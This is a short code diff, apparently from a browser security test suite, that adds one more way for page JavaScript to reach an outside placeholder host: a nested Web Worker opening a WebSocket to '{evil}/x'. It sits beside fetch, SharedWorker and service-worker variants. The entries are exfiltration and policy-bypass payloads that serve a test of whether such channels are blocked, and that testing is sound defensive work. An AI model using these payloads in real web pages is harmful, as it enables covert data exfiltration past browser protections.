@@ -129,6 +129,8 @@ _FETCHED = (
         "new Blob(['fetch(`{evil}/x`, {mode: `no-cors`})'])))\"])))")),
     Way("worker_web_socket", _tries("new Worker(URL.createObjectURL(new Blob(["
         "\"new WebSocket('{evil}/x'.replace('http', 'ws'))\"])))")),
+    Way("worker_in_worker_web_socket", _tries('new Worker(URL.createObjectURL(new Blob(["new Worker('
+        "URL.createObjectURL(new Blob(['new WebSocket(`{evil}/x`.replace(`http`, `ws`))'])))\"])))")),
     Way("shared_worker", _tries("new SharedWorker(URL.createObjectURL(new Blob(["
         "\"fetch('{evil}/x', {mode: 'no-cors'})\"])))")),
     Way("service_worker", _tries("await navigator.serviceWorker.register('/worker.js')")),
